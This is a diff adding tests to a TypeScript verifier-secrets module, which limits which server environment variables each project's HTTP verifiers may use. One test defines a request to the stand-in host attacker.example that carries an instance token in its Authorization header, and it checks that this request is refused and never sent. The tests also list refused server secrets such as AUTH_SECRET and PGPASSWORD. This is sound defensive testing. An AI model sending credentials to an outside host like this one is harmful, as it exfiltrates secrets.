@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { allowlistedSecrets, definitionSecrets, parseSecretAllowlist, secretAllowlistProblems, secretNameProblem, storedSecretNames, verifierSecretBodySchema } from "./verifier-secrets";
+import { allowlistedSecrets, definitionSecrets, grantedTo, parseSecretAllowlist, secretAllowlistProblems, secretNameProblem, storedSecretNames, verifierSecretBodySchema } from "./verifier-secrets";
 import { operationContext, renderRequest, TemplateError } from "./verifier-template";
 import { EXAMPLE } from "./fixtures/verifier-example";
 
@@ -8,9 +8,9 @@ const env: Record<string, string> = { X_READ_TOKEN: "read-token", AWS_SECRET_ACC
 
 describe("RECONCILE_VERIFIER_ENV: the environment variables verifiers may use", () => {
   it("is a list of names, split on commas or spaces; unset or blank names none", () => {
-    expect(parseSecretAllowlist(undefined)).toEqual({ names: [], refused: [] });
-    expect(parseSecretAllowlist("  ")).toEqual({ names: [], refused: [] });
-    expect(parseSecretAllowlist("X_READ_TOKEN, SOCIAL_TOKEN  BILLING_KEY,,")).toEqual({ names: ["X_READ_TOKEN", "SOCIAL_TOKEN", "BILLING_KEY"], refused: [] });
+    expect(parseSecretAllowlist(undefined)).toEqual({ grants: [], names: [], refused: [] });
+    expect(parseSecretAllowlist("  ")).toEqual({ grants: [], names: [], refused: [] });
+    expect(parseSecretAllowlist("X_READ_TOKEN, SOCIAL_TOKEN  BILLING_KEY,,").names).toEqual(["X_READ_TOKEN", "SOCIAL_TOKEN", "BILLING_KEY"]);
     expect(parseSecretAllowlist("A,A").names).toEqual(["A"]);
   });
 
@@ -20,6 +20,66 @@ describe("RECONCILE_VERIFIER_ENV: the environment variables verifiers may use", 
     expect(refused.map((r) => r.name)).toEqual(["DATABASE_URL", "AUTH_SECRET", "RECONCILE_ARCHIVE_URL", "PGPASSWORD", "1BAD", "a-b"]);
     expect(refused[0].why).toMatch(/server's own configuration/);
     expect(refused[5].why).toMatch(/not an environment variable's name/);
+  });
+});
+
+describe("RECONCILE_VERIFIER_ENV grants each variable to projects: an instance credential is not a project admin's", () => {
+  it("a bare name serves the default project only (its admins are the instance's); NAME@a+b those projects; NAME@* every one", () => {
+    const { grants, refused } = parseSecretAllowlist("SOCIAL_READ_TOKEN, BILLING_KEY@billing+default OPEN_DATA@* ALPHA_KEY@alpha");
+    expect(refused).toEqual([]);
+    expect(grants).toEqual([
+      { name: "SOCIAL_READ_TOKEN", projects: ["default"] },
+      { name: "BILLING_KEY", projects: ["billing", "default"] },
+      { name: "OPEN_DATA", projects: "*" },
+      { name: "ALPHA_KEY", projects: ["alpha"] },
+    ]);
+    expect(grantedTo(grants, "default")).toEqual(["SOCIAL_READ_TOKEN", "BILLING_KEY", "OPEN_DATA"]);
+    expect(grantedTo(grants, "alpha")).toEqual(["OPEN_DATA", "ALPHA_KEY"]);
+    expect(grantedTo(grants, "billing")).toEqual(["BILLING_KEY", "OPEN_DATA"]);
+    expect(grantedTo(grants, "other")).toEqual(["OPEN_DATA"]);
+  });
+
+  it("a name listed twice is granted to both lists of projects; * wins", () => {
+    expect(parseSecretAllowlist("K@alpha K@beta").grants).toEqual([{ name: "K", projects: ["alpha", "beta"] }]);
+    expect(parseSecretAllowlist("K K@alpha").grants).toEqual([{ name: "K", projects: ["default", "alpha"] }]);
+    expect(parseSecretAllowlist("K@alpha K@* K@beta").grants).toEqual([{ name: "K", projects: "*" }]);
+  });
+
+  it("what follows @ must be slugs or *; the server's own configuration stays refused with any grant", () => {
+    const { grants, refused } = parseSecretAllowlist("A@ B@Alpha C@alpha+ D@alpha,beta AUTH_SECRET@alpha E@-x");
+    // "D@alpha,beta" is two entries: D for alpha, and a variable named beta for the default project.
+    expect(grants).toEqual([
+      { name: "D", projects: ["alpha"] },
+      { name: "beta", projects: ["default"] },
+    ]);
+    expect(refused.map((r) => r.name)).toEqual(["A@", "B@Alpha", "C@alpha+", "AUTH_SECRET", "E@-x"]);
+    expect(refused[0].why).toMatch(/after @ come the projects' slugs/);
+    expect(refused.find((r) => r.name === "AUTH_SECRET")!.why).toMatch(/server's own configuration/);
+  });
+
+  it("a project's admin is refused an instance variable at save, the refusal naming it and what to do instead", () => {
+    const def = { request: { method: "GET", url: "https://attacker.example/", headers: { Authorization: "Bearer {env.SOCIAL_READ_TOKEN}" } } };
+    const { grants } = parseSecretAllowlist("SOCIAL_READ_TOKEN");
+    expect(secretAllowlistProblems(def, grantedTo(grants, "default"), "default")).toEqual([]);
+    expect(secretAllowlistProblems(def, grantedTo(grants, "alpha"), "alpha")).toEqual([
+      {
+        path: ["request", "headers", "Authorization"],
+        message: "{env.SOCIAL_READ_TOKEN}: this server lets project alpha's verifiers use no environment variables (RECONCILE_VERIFIER_ENV grants it none); keep this project's credentials as its own secrets ({secret.NAME})",
+      },
+    ]);
+    expect(secretAllowlistProblems(def, ["OPEN_DATA"], "alpha")[0].message).toBe(
+      "{env.SOCIAL_READ_TOKEN}: this server lets project alpha's verifiers use only the environment variables RECONCILE_VERIFIER_ENV grants it (OPEN_DATA); keep this project's credentials as its own secrets ({secret.NAME})",
+    );
+  });
+
+  it("at run time, a definition saved before the grant was narrowed is not sent: the check fails naming the variable and the project", () => {
+    const { grants } = parseSecretAllowlist("X_READ_TOKEN");
+    let read = false;
+    const secrets = allowlistedSecrets(grantedTo(grants, "alpha"), () => ((read = true), "instance-credential"), "alpha");
+    expect(() => renderRequest(EXAMPLE.request, ctx, secrets)).toThrow("the environment variable X_READ_TOKEN is not one this server lets project alpha's verifiers use (RECONCILE_VERIFIER_ENV); nothing was sent");
+    expect(read).toBe(false);
+    const granted = allowlistedSecrets(grantedTo(parseSecretAllowlist("X_READ_TOKEN@alpha").grants, "alpha"), (name) => env[name], "alpha");
+    expect(renderRequest(EXAMPLE.request, ctx, granted).send.headers.Authorization).toBe("Bearer read-token");
   });
 });
 
